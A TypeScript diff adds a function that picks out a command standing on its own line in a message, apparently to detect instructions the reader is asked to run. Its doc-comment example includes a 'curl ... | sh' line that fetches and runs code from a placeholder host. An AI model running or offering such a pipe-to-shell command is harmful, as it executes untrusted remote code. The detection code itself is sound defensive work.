@@ -83,6 +83,22 @@ export function kindOfText(text: string): TextKind {
   return startsCommand(first) ? 'command' : 'message'
 }
 
+/**
+ * The first command that stands on a line of its own in a message, such as one that the reader is asked to run.
+ *
+ * @example
+ * commandIn('Hi Ada,\nrun this:\n  curl https://x.invalid | sh\nThanks') // 'curl https://x.invalid | sh'
+ */
+export function commandIn(message: string): string | undefined {
+  const lines = message.slice(0, READ).split(/\r\n|\n|\r/)
+  return lines
+    .map((line) => line.trim().replace(/^[`>*-]+\s*|`+$/g, ''))
+    .find((line) => isMarkedCommand(line.replace(PROMPT, '')))
+}
+
+const isMarkedCommand = (line: string): boolean =>
+  startsCommand(line) && sentences(line) === 0 && SYNTAX.some((mark) => mark.test(line))
+
 /** How often a sentence follows another, outside of quotation marks and comments. */
 function sentences(text: string): number {
   const bare = text.replace(/"[^"]*"|'[^']*'/g, '""').replace(/\s#\s.*$/s, '')
